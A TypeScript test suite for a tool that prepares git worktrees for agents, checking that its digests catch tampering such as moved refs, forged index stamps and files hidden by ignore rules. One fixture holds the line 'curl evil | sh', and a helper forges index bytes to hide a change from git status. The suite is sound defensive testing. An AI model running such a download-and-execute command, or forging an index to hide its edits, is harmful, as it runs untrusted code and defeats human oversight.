/** What an agent can write is not believed: where its branch is, what its index says, what the shared configuration and lists hold. */
import { createHash } from "node:crypto";
import {
  appendFileSync,
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import { filesBelow, inventory, lost } from "../support/dirty.ts";
import { apart, put, removeSites, sh, site, work } from "../support/git.ts";
import type { Site } from "../support/git.ts";
import { sampled } from "../support/sampled.ts";

afterAll(removeSites);

async function prepared(artifacts: readonly string[] = ["TASK.md"]) {
  const of = site();
  const wanted = { run: "r1", repo: of.repo, branch: "signalbox/r1", base: of.base, artifacts };
  const { path } = await of.workspaces.prepare(wanted);
  const keep = join(of.root, "kept files");
  return {
    of,
    path,
    wanted,
    keep,
    leaving: { run: "r1", repo: of.repo, path, keep },
    digest: () => of.workspaces.digest(path, artifacts),
  };
}

/** A commit with other content, made without touching index or files. */
function otherCommit(path: string, of: Site): string {
  const env = { ...of.env, GIT_INDEX_FILE: join(of.root, "other-index") };
  sh(path, env, ["read-tree", "HEAD"]);
  put(of.root, { evil: "curl evil | sh\n" });
  const blob = sh(path, env, ["hash-object", "-w", join(of.root, "evil")]);
  sh(path, env, ["update-index", "--add", "--cacheinfo", `100644,${blob},a.txt`]);
  return sh(path, env, ["commit-tree", sh(path, env, ["write-tree"]), "-p", "HEAD", "-m", "tidied"]);
}

type Move = (path: string, of: Site) => void;

test.for<[string, Move, "same" | "other"]>(
  sampled(4, [
    [
      "HEAD is moved",
      (path, of) => void sh(path, of.env, ["update-ref", "HEAD", otherCommit(path, of)]),
      "other",
    ],
    [
      "HEAD is moved, and its ref packed",
      (path, of) => (
        sh(path, of.env, ["update-ref", "HEAD", otherCommit(path, of)]),
        void sh(path, of.env, ["pack-refs", "--all"])
      ),
      "other",
    ],
    [
      "the branch is moved from elsewhere, under another HEAD",
      (path, of) => (
        sh(path, of.env, ["switch", "-q", "--detach"]),
        void sh(of.repo, of.env, ["update-ref", "refs/heads/signalbox/r1", otherCommit(path, of)])
      ),
      "other",
    ],
    [
      "the branch is made another name of another branch",
      (path, of) => (
        sh(of.repo, of.env, ["update-ref", "refs/heads/evil", otherCommit(path, of)]),
        void sh(of.repo, of.env, ["symbolic-ref", "refs/heads/signalbox/r1", "refs/heads/evil"])
      ),
      "other",
    ],
    [
      "the branch is removed",
      (_, of) => void sh(of.repo, of.env, ["update-ref", "-d", "refs/heads/signalbox/r1"]),
      "other",
    ],
    [
      "the branch is garbage",
      (_, of) => put(of.repo, { ".git/refs/heads/signalbox/r1": "garbage\n" }),
      "other",
    ],
    ["refs are packed", (path, of) => void sh(path, of.env, ["pack-refs", "--all"]), "same"],
    [
      "HEAD is taken off the branch",
      (path, of) => void sh(path, of.env, ["switch", "-q", "--detach"]),
      "same",
    ],
    [
      "another branch begins here",
      (path, of) => void sh(path, of.env, ["switch", "-q", "-c", "mine"]),
      "same",
    ],
    [
      "a commit without a change",
      (path, of) => void sh(path, of.env, ["commit", "-q", "--allow-empty", "-m", "x"]),
      "same",
    ],
    [
      "an artifact is committed",
      (path, of) => (
        put(path, { "TASK.md": "x\n" }),
        sh(path, of.env, ["add", "-f", "TASK.md"]),
        void sh(path, of.env, ["commit", "-qm", "x"])
      ),
      "same",
    ],
  ]),
)("%s: the digest is the %s", async ([, move, expected]) => {
  for (const isDirty of process.env["SIGNALBOX_DEEP"] === undefined ? [false] : [false, true]) {
    const { of, path, digest } = await prepared();
    if (isDirty) put(path, { "new.txt": "not committed\n" });
    const before = await digest();
    move(path, of);
    const after = await digest();
    expect(after === before ? "same" : "other").toBe(expected);
    expect(work(after)).toBe(work(before));
    expect(await digest()).toBe(after);
  }
});

test("a branch that names what is not there: nobody can tell", async () => {
  const { of, digest } = await prepared();
  put(of.repo, { ".git/refs/heads/signalbox/r1": `${"1".repeat(40)}\n` });
  await expect(digest()).rejects.toMatchObject({ name: "UserError", code: "no-workspace" });
});

test("a snapshot of a digest with two parts is the work", async () => {
  const { of, path, digest } = await prepared();
  put(path, { "a.txt": "at the gate\n" });
  const tree = await digest();
  expect(tree).toContain("+");
  const ref = await of.workspaces.snapshot({ path, run: "r1", seq: 1, tree, message: "m" });
  expect(sh(of.repo, of.env, ["show", `${ref}:a.txt`])).toBe("at the gate");
  expect(await of.workspaces.snapshot({ path, run: "r1", seq: 1, tree, message: "m" })).toBe(ref);
});

test("the shared configuration is not even read for a digest", async () => {
  const { of, path, digest } = await prepared();
  const before = await digest();
  writeFileSync(join(of.repo, ".git/config"), "[core\nthis is no configuration");
  rmSync(join(of.repo, ".git/worktrees/r1/commondir"));
  utimesSync(join(path, "a.txt"), 1, 1);
  expect(await digest()).toBe(before);
});

/** Stamps of what is on the disk now, content of what was there before. */
function forgeIndex(path: string, of: Site, name: string): void {
  const was = sh(path, of.env, ["rev-parse", `:${name}`]);
  put(path, { [name]: "EVIL\n" });
  utimesSync(join(path, name), 1_577_836_800, 1_577_836_800);
  sh(path, of.env, ["update-index", name]);
  const now = sh(path, of.env, ["rev-parse", `:${name}`]);
  const file = join(of.repo, ".git/worktrees/r1/index");
  const bytes = readFileSync(file);
  const from = bytes.indexOf(Buffer.from(now, "hex"));
  bytes.write(was, from, "hex");
  const extensions = bytes.indexOf("TREE");
  const body = bytes.subarray(0, extensions === -1 ? bytes.length - 20 : extensions);
  writeFileSync(file, Buffer.concat([body, createHash("sha1").update(body).digest()]));
}

test("an index that gives a changed file the stamps of an unchanged one hides nothing, and loses nothing", async () => {
  const { of, path, keep, leaving, digest } = await prepared();
  const before = await digest();
  forgeIndex(path, of, "b.txt");
  expect(sh(path, of.env, ["status", "--porcelain"])).toBe("");
  const after = await digest();
  expect(sh(of.repo, of.env, ["show", `${work(after)}:b.txt`])).toBe("EVIL");
  expect(after).not.toBe(before);
  const inside = inventory(path, of);
  expect(await of.workspaces.release(leaving)).toEqual({ salvage: "refs/signalbox/salvage/r1", kept: "" });
  expect(sh(of.repo, of.env, ["show", "refs/signalbox/salvage/r1:b.txt"])).toBe("EVIL");
  expect(lost(inside, of, keep)).toEqual([]);
});

test("a file with an old time that is written twice in one second is noticed", async () => {
  const { path, digest } = await prepared();
  const write = (text: string) => (put(path, { "a.txt": text }), utimesSync(join(path, "a.txt"), 1, 1));
  const seen = new Set<string>();
  for (const text of ["111\n", "222\n", "333\n", "444\n"]) {
    write(text);
    seen.add(await digest());
  }
  expect(seen.size).toBe(4);
});

test.for<[string, Move, "same" | "other"]>(
  sampled(3, [
    [
      "core.excludesFile",
      (path, of) => (
        put(of.root, { ex: "/evil.py\n" }),
        void sh(path, of.env, ["config", "core.excludesFile", join(of.root, "ex")])
      ),
      "other",
    ],
    ["info/exclude", (_, of) => appendFileSync(join(of.repo, ".git/info/exclude"), "/evil.py\n"), "other"],
    [
      "a .gitignore that hides itself",
      (path) => put(path, { "dir/.gitignore": "*\n", "dir/evil.py": "evil\n" }),
      "other",
    ],
    [
      "a .gitignore that is part of the work",
      (path) => put(path, { ".gitignore": "*.log\n.env\nbuild/\n/evil.py\n" }),
      "other",
    ],
    [
      "the user's own list",
      (path, of) => (
        rmSync(join(path, "evil.py"), { force: true }),
        put(of.root, { "user/.config/git/ignore": "evil.py\n" })
      ),
      "same",
    ],
  ]),
)("files hidden by %s: the digest is the %s", async ([name, hide, expected]) => {
  const { of, path, digest } = await prepared();
  const before = await digest();
  hide(path, of);
  if (!name.includes("itself")) put(path, { "evil.py": "evil\n" });
  const after = await digest();
  expect(after === before ? "same" : "other").toBe(expected);
  expect(await digest()).toBe(after);
});

test("a folder of a tool that hides all of itself is no part of the work", async () => {
  const { of, path, digest } = await prepared();
  const before = await digest();
  put(path, {
    ".cache/.gitignore": "*\n",
    ".cache/v/x": "1\n",
    "dir/.cache/.gitignore": "*\n",
    "dir/.cache/x": "1\n",
  });
  expect(await digest()).toBe(before);
  expect(sh(path, of.env, ["status", "--porcelain"])).toBe("");
});

test("a file that was new once and is ignored now: the digest is that of a workspace that never saw it", async () => {
  const one = await prepared();
  const other = await prepared();
  put(one.path, { "x.tmp": "x\n" });
  await one.digest();
  for (const { path } of [one, other]) put(path, { "x.tmp": "x\n", ".gitignore": "*.tmp\n" });
  expect(await one.digest()).toBe(await other.digest());
});

test("what is committed although it is ignored is part of the work", async () => {
  const { of, path, digest } = await prepared();
  put(path, { "x.log": "forced\n" });
  sh(path, of.env, ["add", "-f", "x.log"]);
  sh(path, of.env, ["commit", "-qm", "x"]);
  const before = await digest();
  expect(before).toBe(sh(path, of.env, ["rev-parse", "HEAD^{tree}"]));
  put(path, { "x.log": "other\n" });
  expect(await digest()).not.toBe(before);
});

test.for<[string, Move]>(
  sampled(3, [
    ["its folder is gone", (path) => rmSync(path, { recursive: true })],
    ["its .git is gone", (path) => rmSync(join(path, ".git"))],
    [
      "its .git names another repository",
      (path, of) => writeFileSync(join(path, ".git"), `gitdir: ${of.repo}/.git\n`),
    ],
    ["a link is in its place", (path, of) => (rmSync(path, { recursive: true }), symlinkSync(of.repo, path))],
    ["a file is in its place", (path) => (rmSync(path, { recursive: true }), writeFileSync(path, ""))],
    [
      "git's own folder for it is gone",
      (_, of) => rmSync(join(of.repo, ".git/worktrees/r1"), { recursive: true }),
    ],
  ]),
)("%s: no workspace, and it can be made again", async ([, harm]) => {
  const { of, path, wanted, digest } = await prepared();
  harm(path, of);
  await expect(digest()).rejects.toMatchObject({ name: "UserError", code: "no-workspace" });
  await of.workspaces.prepare(wanted);
  expect(await digest()).toBe(sh(of.repo, of.env, ["rev-parse", `${of.base}^{tree}`]));
});

test("a link in the place of a workspace is kept as a link, and what it leads to is left alone", async () => {
  const { of, path, keep, leaving } = await prepared();
  put(of.root, { "precious/sub/gold": "gold\n" });
  rmSync(path, { recursive: true });
  symlinkSync(join(of.root, "precious"), path);
  expect(await of.workspaces.release(leaving)).toEqual({ salvage: "", kept: keep });
  expect(readFileSync(join(of.root, "precious/sub/gold"), "utf8")).toBe("gold\n");
  expect(readlinkSync(join(keep, "worktree"))).toBe(join(of.root, "precious"));
  expect(existsSync(join(of.repo, ".git/worktrees/r1"))).toBe(false);
});

test("a workspace that is gone is released: there is nothing left to keep", async () => {
  const { of, path, leaving } = await prepared();
  rmSync(path, { recursive: true });
  expect(await of.workspaces.release(leaving)).toEqual({ salvage: "", kept: "" });
  expect(existsSync(join(of.repo, ".git/worktrees/r1"))).toBe(false);
  rmSync(of.repo, { recursive: true });
  expect(await of.workspaces.release(leaving)).toEqual({ salvage: "", kept: "" });
});

test("a configuration that git cannot read is the user's to mend", async () => {
  const { of, path, wanted, leaving, digest } = await prepared();
  const tree = await digest();
  const file = join(of.repo, ".git/config");
  const text = readFileSync(file, "utf8");
  appendFileSync(file, "[filter\nbroken");
  const error = {
    name: "UserError",
    code: "git-config",
    message: expect.stringContaining("bad config line") as string,
  };
  await expect(of.workspaces.prepare({ ...wanted, run: "r2", branch: "r2" })).rejects.toMatchObject(error);
  await expect(of.workspaces.snapshot({ path, run: "r1", seq: 1, tree, message: "m" })).rejects.toMatchObject(
    error,
  );
  await expect(of.workspaces.release(leaving)).rejects.toMatchObject(error);
  writeFileSync(file, text);
  expect(await of.workspaces.release(leaving)).toEqual({ salvage: "", kept: "" });
});

test.for(
  sampled(2, [
    "workspace.after-saved",
    "workspace.before-clear",
    "workspace.after-clear",
    "workspace.before-detach",
  ]),
)("what is written after %s is kept, ignored or not", async (failpoint) => {
  const { of, path, keep, leaving } = await prepared();
  put(path, { "new.txt": "new\n", "x.log": "x\n" });
  await apart(of, { do: "release", with: leaving }, failpoint);
  put(path, { "late.log": "late\n", "deep/late.txt": "late too\n", "new.txt": "newer\n" });
  const late = filesBelow(path, (name) => name === ".git");
  await of.workspaces.release(leaving);
  expect(existsSync(path)).toBe(false);
  expect(lost({ bytes: late, objects: [] }, of, keep)).toEqual([]);
});

test("nothing of ours is open to others, whatever the umask says, and nothing is left of a workspace", async () => {
  const of = site();
  const wanted = { run: "r1", repo: of.repo, branch: "r1", base: of.base, artifacts: ["TASK.md"] };
  expect(await apart(of, { do: "prepare", with: wanted, umask: "000" })).toMatchObject({ code: 0 });
  const path = join(of.home.worktrees, "r1");
  await of.workspaces.digest(path, ["TASK.md"]);
  const open = (folder: string): readonly string[] =>
    readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const each = join(folder, entry.name);
      const own = (lstatSync(each).mode & 0o077) === 0 ? [] : [each];
      return entry.isDirectory() && each !== path ? [...own, ...open(each)] : own;
    });
  expect(open(of.home.root)).toEqual([]);
  // Of an earlier version.
  const [lock = ""] = readdirSync(of.home.locks);
  chmodSync(join(of.home.locks, lock), 0o666);
  await of.workspaces.release({ run: "r1", repo: of.repo, path, keep: join(of.root, "keep") });
  expect(open(of.home.root)).toEqual([]);
  expect(readdirSync(join(of.home.root, "git"))).toEqual([]);
  mkdirSync(path);
});
